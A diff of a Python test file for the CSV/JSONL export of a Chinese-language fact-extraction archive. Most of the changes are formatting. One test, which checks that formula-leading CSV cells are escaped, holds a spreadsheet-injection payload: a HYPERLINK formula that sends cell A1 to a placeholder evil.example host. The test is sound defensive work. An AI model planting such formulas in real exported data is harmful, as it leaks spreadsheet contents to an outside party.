@@ -9,9 +9,9 @@ from pathlib import Path
 
 import pytest
 
-from jiwen.library.export import CSV_COLUMNS, atomic_output, select_articles, write_export
 from jiwen.core.models import MoneyFact, PercentFact
 from jiwen.core.schema import FORMATS, schema_for
+from jiwen.library.export import CSV_COLUMNS, atomic_output, select_articles, write_export
 from jiwen.store import Archive
 
 from .conftest import schema_validator
@@ -33,7 +33,9 @@ def filled_archive(tmp_path):
                 MoneyFact(text="81836.46万元", start=money_at, end=money_at + 10, value=818364600),
                 PercentFact(text="40%以上", start=percent_at, end=percent_at + 5, value=40, qualifier="at_least"),
             ]
-            archive.save_article(archive.add_page(page)[0], page, article, relevant=number != 2, relevance=1, fingerprint=None, duplicate_of=None)
+            archive.save_article(
+                archive.add_page(page)[0], page, article, relevant=number != 2, relevance=1, fingerprint=None, duplicate_of=None
+            )
         yield archive
 
 
@@ -77,7 +79,10 @@ def test_facts_jsonl_rows_carry_their_article(filled_archive):
 def test_kind_filter_keeps_only_those_facts(filled_archive):
     from jiwen.core.models import SearchRequest
 
-    rows = [json.loads(line) for line in export_bytes(filled_archive, "facts-jsonl", request=SearchRequest(kinds=["money", "percent"])).splitlines()]
+    rows = [
+        json.loads(line)
+        for line in export_bytes(filled_archive, "facts-jsonl", request=SearchRequest(kinds=["money", "percent"])).splitlines()
+    ]
     assert {row["kind"] for row in rows} == {"money", "percent"}
 
 
@@ -138,7 +143,9 @@ def test_schema_comparison_ignores_description_whitespace_only():
     indented = {"properties": {"a": {"type": "string", "description": "Line one.\n    Line two."}}}
     stripped = {"properties": {"a": {"type": "string", "description": "Line one.\nLine two."}}}
     assert comparable_schema(indented) == comparable_schema(stripped)
-    assert comparable_schema(indented) != comparable_schema({"properties": {"a": {"type": "integer", "description": "Line one. Line two."}}})
+    assert comparable_schema(indented) != comparable_schema(
+        {"properties": {"a": {"type": "integer", "description": "Line one. Line two."}}}
+    )
     assert comparable_schema(indented) != comparable_schema({"properties": {"a": {"type": "string", "description": "Line one."}}})
 
 
@@ -170,7 +177,7 @@ def test_csv_cells_that_would_start_a_formula_are_made_text(formula_archive, jiw
     result = jiwen("export", "--format", format_name, "--archive", str(formula_archive), "-o", str(output))
     assert result.returncode == 0, result.stderr
     rows = list(csv.DictReader(io.StringIO(output.read_text("utf-8"))))
-    assert rows and all(row["title"] == "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")" for row in rows)
+    assert rows and all(row["title"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"点击")' for row in rows)
     sentences = {row["sentence"][:2] for row in rows}
     assert {"'-", "'@"} <= sentences, sentences
     cells = [cell for row in rows for cell in row.values() if cell]
